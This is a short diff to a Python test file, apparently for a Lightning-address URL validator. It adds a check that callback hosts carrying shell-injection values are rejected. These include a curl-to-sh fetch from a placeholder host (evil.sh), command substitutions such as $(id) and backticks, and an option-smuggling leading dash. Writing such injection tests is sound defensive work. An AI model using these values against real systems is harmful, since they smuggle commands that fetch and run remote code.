@@ -122,6 +122,9 @@ def test_an_address_is_asked_over_tls_or_as_an_onion() -> None:
     for bad in ("http://example.org/x", "https://u:p@example.org/x", "https://example.org/#x", None):
         with pytest.raises(InvalidParams):
             lnaddress.checked_url(bad, "it")
+    for bad in ("x.com;curl${IFS}evil.sh|sh", "x$(id).com", "x`id`.com", "x.com&id", "x'.com", "-f.com"):
+        with pytest.raises(InvalidParams, match=r"it is at|it: "):
+            lnaddress.checked_url(f"https://{bad}/cb", "it")
 
 
 def test_pay_is_agreed_by_the_credential() -> None:
